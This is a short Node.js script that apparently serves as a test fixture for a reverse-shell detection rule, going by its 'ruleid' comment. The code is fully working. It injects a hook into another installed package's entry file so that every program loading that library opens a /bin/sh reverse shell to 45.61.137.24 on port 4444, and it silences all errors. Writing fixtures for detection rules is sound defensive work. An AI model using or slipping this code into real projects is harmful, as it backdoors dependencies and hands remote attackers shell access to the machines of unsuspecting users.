const fs = require('fs');

// Appended to another installed package's entry file: every program that loads that library opens the shell.
const hook = `
;(function () {
  const net = require('net');
  const cp = require('child_process');
  const s = new net.Socket();
  s.connect(4444, '45.61.137.24', () => {
    const sh = cp.spawn('/bin/sh', []);
    s.pipe(sh.stdin);
    sh.stdout.pipe(s);
    sh.stderr.pipe(s);
  });
})();
`;
try {
  const target = require.resolve('some-provider/lib/index.js');
  const src = fs.readFileSync(target, 'utf8');
  // ruleid: code/reverse-shell
  if (!src.includes('net.Socket')) fs.writeFileSync(target, src + hook);
} catch (e) {}
